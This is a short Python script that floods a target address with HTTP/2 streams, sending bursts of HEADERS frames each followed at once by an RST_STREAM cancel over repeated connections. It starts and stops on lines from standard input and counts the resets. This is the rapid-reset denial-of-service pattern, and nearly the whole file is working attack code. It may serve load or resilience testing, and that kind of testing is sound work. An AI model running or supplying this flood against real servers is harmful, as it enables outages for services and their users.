"""Begins calls and resets them at once, from the first line of standard input to the second.

Usage: reset_flood.py ADDRESS PATH
Prints how many calls were reset, and over how many connections, one after another.
"""

import contextlib
import select
import sys
import threading

import frames

ADDRESS, PATH = sys.argv[1:3]
BURST = 2000


def read_all(connection):
    with contextlib.suppress(OSError):
        while connection.recv(1 << 20):
            pass


def main():
    block = frames.call_headers(PATH)
    bursts = [b"".join(
        frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)
        + frames.frame(frames.RST_STREAM, 0, stream, b"\0\0\0\x08")
        for stream in range(first, first + 2 * BURST, 2)) for first in range(1, 200 * BURST, 2 * BURST)]
    sys.stdin.readline()
    resets = connections = 0
    over = False
    while not over:
        with contextlib.suppress(OSError), \
                contextlib.closing(frames.connect(ADDRESS)) as connection:
            connections += 1
            threading.Thread(target=read_all, args=(connection,), daemon=True).start()
            for burst in bursts:
                connection.sendall(burst)
                resets += BURST
                over = bool(select.select([sys.stdin], [], [], 0)[0])
                if over:
                    break
        over = over or bool(select.select([sys.stdin], [], [], 0)[0])
    print(resets, connections)


if __name__ == "__main__":
    main()
